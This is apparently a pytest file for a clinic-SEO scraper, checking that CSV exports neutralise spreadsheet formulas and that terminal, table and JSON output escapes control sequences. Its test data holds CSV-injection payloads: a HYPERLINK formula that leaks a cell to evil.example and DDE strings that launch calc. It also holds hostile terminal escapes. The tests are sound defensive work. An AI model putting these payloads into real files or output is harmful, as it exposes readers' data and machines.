"""Text from outside is data: no formulas in any CSV, no escape sequences on the terminal,
no control characters kept from a page."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from clinicseo.formats import table, to_csv
from clinicseo.report import render_csv
from clinicseo.topics import format_topics
from clinicseo.untrusted import csv_cell, strip_controls, terminal_text
from scrapers.export import pages_csv
from scrapers.extract import page_from_html

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ESCAPES = (
    "Acne \x1b]0;pwned\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x9b31m"
)


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_become_text(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell(["=1", "2"]).startswith('["=1"')  # JSON: starts with [, not a formula


def test_plain_values_pass_unchanged() -> None:
    assert csv_cell("Acne scars") == "Acne scars"
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(None) == ""
    assert csv_cell("a = b") == "a = b"


def test_terminal_text_shows_escapes_instead_of_obeying_them() -> None:
    shown = terminal_text(ESCAPES + "\nnext line\u202eevil")
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown
    assert "\u202e" not in shown and "\\u202e" in shown
    assert "\\x1b]0;pwned\\x07" in shown and "\nnext line" in shown


def test_strip_controls_keeps_tab_and_newline_only() -> None:
    assert strip_controls("a\x00b\x1b[31mc\td\ne\x7f\x85\u2066f") == "ab[31mc\td\nef"


def all_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_writer_neutralises_formulas() -> None:
    evil = FORMULAS[0]
    page = {
        "url": "https://a.example/",
        "site": "a",
        "title": evil,
        "h2": [evil, "x"],
        "questions": ["@SUM(1)"],
        "status": 200,
    }
    topic = {
        "key": "k",
        "label": evil,
        "score": 1.0,
        "competitors": ["=a"],
        "evidence": [],
        "questions": ["+cmd|x"],
        "brief": {},
    }
    draft = {
        "id": 1,
        "title": evil,
        "topic": "-1+cmd",
        "state": "draft",
        "scores": {},
        "checks": [],
        "tags": ["=x"],
    }
    outputs = [
        pages_csv([page]),
        format_topics([topic], "csv"),
        render_csv([draft]),
        to_csv([{"a": evil, "b": "@x"}], ["a", "b"]),
    ]
    for text in outputs:
        for cell in all_cells(text):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, text[:80])
        assert "'" + evil in text or "'" + evil.replace('"', '""') in text


def test_tables_and_topic_listings_escape_control_sequences() -> None:
    topic = {
        "key": "k",
        "label": ESCAPES,
        "score": 1.0,
        "competitors": ["a"],
        "brief": {},
        "evidence": [{"site": "a\x1b[1m", "where": "h2", "url": "https://a.example/"}],
        "questions": [ESCAPES + "?"],
    }
    for text in (
        format_topics([topic], "table", gaps=True),
        table([{"title": ESCAPES}], ["title"]),
    ):
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
        assert "\\x1b" in text


def test_extraction_drops_control_characters() -> None:
    html = (
        "<html><head><title>Peels \x1b]0;owned\x07 guide</title>"
        '<meta name="description" content="=HYPERLINK(1) \x1b[31mred"></head><body>'
        "<h1>Chemical\x00 peels\u202e</h1><h2>Do peels hurt?\x1b[2J</h2>"
        + "<p>Chemical peels renew the skin surface gently.</p>" * 30
        + "</body></html>"
    )
    page = page_from_html("https://a.example/peels", html)
    kept = [page["title"], page["meta_description"], *page["h1"], *page["h2"], *page["questions"]]
    for text in kept:
        assert strip_controls(text) == text, text
    assert page["title"] == "Peels ]0;owned guide"
    assert page["h1"] == ["Chemical peels"]
    # the formula is kept as the page's text; the CSV writer is what neutralises it
    assert page["meta_description"].startswith("=HYPERLINK")
    assert all_cells(pages_csv([page]))[len(all_cells(pages_csv([]))) + 4].startswith("'=")


def test_report_csv_keeps_its_shape() -> None:
    text = render_csv(
        [
            {
                "id": 7,
                "title": "Fine title",
                "state": "draft",
                "scores": {},
                "checks": [],
                "generated": datetime.now(UTC),
            }
        ]
    )
    assert "Fine title" in text and "'Fine" not in text


def test_json_output_escapes_every_control_and_still_parses() -> None:
    import json

    from clinicseo.formats import to_json
    from scrapers.export import pages_jsonl

    value = {"title": ESCAPES + " caf\u00e9 \u202e"}
    for text in (to_json(value), pages_jsonl([value]).strip()):
        assert "\x1b" not in text and "\x9b" not in text and "\u202e" not in text
        assert "café" in text  # readable text stays readable
        parsed = json.loads(text)
        assert parsed.get("title") == value["title"]
